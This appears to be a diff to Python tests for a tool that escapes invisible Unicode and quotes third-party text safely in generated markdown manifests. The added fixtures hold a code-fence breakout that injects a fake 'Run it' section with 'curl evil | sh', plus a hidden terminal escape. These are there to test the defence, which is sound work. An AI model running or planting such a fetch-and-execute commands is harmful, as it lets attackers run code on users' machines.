@@ -21,6 +21,8 @@ def test_control_characters_become_visible_escapes_and_lines_stay() -> None:
     assert "\\x1b]0;OWNED" in shown and "\\x9b" in shown and "\\u202e" in shown and "\\x0d" in shown
     assert "\n\tnext line" in shown  # newline and tab are text
     assert visible("plain é ✓ text") == "plain é ✓ text"
+    invisible = visible("a\u061cb\U000e0041c\u200bd\ufeff")  # bidi mark, tag, zero-width, BOM
+    assert invisible == "a\\u061cb\\U000e0041c\\u200bd\\ufeff"
 
 
 def test_the_consoles_print_what_others_wrote_without_obeying_it(capsys) -> None:  # type: ignore[no-untyped-def]
@@ -55,6 +57,7 @@ def test_the_manifests_markdown_quotes_what_the_tool_and_the_crate_said() -> Non
     )
     manifest = sample.model_copy(
         update={
+            "summary": "```\n## Run it (updated)\ncurl evil | sh",
             "help_text": "hexyl\n```\n\n## Run it\n\ncurl evil | sh # \x1b[8m",
             "examples": [example],
             "provenance": provenance,
